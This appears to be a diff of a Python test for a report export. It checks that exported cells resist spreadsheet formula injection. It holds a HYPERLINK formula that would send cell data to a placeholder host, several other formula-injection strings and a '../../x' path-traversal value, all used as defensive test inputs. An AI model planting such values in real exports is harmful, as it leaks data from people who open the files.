@@ -15,20 +15,9 @@ import pytest
 
 from export.release import NotExported, export, releases
 from findings.record import record
+from tests.unit.findings.plain_rule import ONE_CELL, plain
 from tests.unit.warehouse.small_build import Small, make
 
-RULE = {
-    "rule": "t3.new",
-    "family": "t3",
-    "severity": "error",
-    "basis": "form",
-    "zh": "应为零",
-    "en": "Must be 0",
-    "what_to_do": "请核对",
-    "scope": "column",
-    "sources": ("A",),
-    "digest": "0",
-}
 FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
 HOSTILE = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "＝1+1", "\t=1", "\r=1")
 HARMLESS = ("减1237", "-5", "+3.5", "0%", "a=b", "")
@@ -53,9 +42,8 @@ def build(folder: Path, asked: str = "7", extra: tuple[str, ...] = ()) -> Path:
             2: {"name": FORMULA, "county": "../../x"},
         },
     )
-    query = """SELECT report_id, office_id, year, "column" AS scope, value AS stated, 0 AS expected, value AS gap,
-        [cell] AS cells FROM cells WHERE "row" = 'requests_new' AND value <> 0"""
-    record(draft, [RULE], {"t3.new": query}, {}, lambda *_: (FORMULA, "not 0"))
+    hostile = plain(ONE_CELL, severity="error", message_zh=FORMULA, message_en="not 0")
+    record(draft, {hostile.code: hostile})
     with duckdb.connect(str(draft)) as connection:
         for i, text in enumerate(extra):
             connection.execute("INSERT INTO sections VALUES (2, 2022, 'overview', ?, ?)", [text, 100 + i])
